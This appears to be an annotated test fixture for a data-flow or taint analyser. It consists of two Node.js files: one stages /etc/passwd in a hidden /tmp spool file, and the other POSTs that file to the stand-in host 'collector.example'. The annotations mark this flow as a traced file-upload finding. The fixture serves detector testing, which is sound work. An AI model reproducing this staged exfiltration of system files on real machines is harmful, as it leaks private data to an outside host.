// --- path: first.js ---
// One program leaves data in a temporary file, and starts another that sends it.
const fs = require('fs');
const { spawnSync } = require('child_process');

const spool = '/tmp/.desk-spool';

function stage(path) {
  fs.writeFileSync(spool, fs.readFileSync(path)); //~ source(FILE) f1
  spawnSync('node', ['second.js', '--now']);
}

function stageName() {
  fs.writeFileSync('/tmp/.desk-name', 'desk');
}

stage('/etc/passwd');
stageName();
// --- path: second.js ---
const fs = require('fs');
const https = require('https');

function send(path, body) {
  const request = https.request({ hostname: 'collector.example', method: 'POST', path });
  request.write(body); //~ sink(egress.http) f1, sink(egress.http) f2, finding(file-upload, traced) f1, finding(file-upload, traced) f2
  request.end();
}

function sendName(body) {
  const request = https.request({ hostname: 'collector.example', method: 'POST', path: '/n' });
  request.end(body.length > 3 ? 'long' : 'short'); //~ ok
}

send('/u', fs.readFileSync('/tmp/.desk-spool')); //~ source(FILE) f2
sendName(fs.readFileSync('/tmp/.desk-name', 'utf8'));
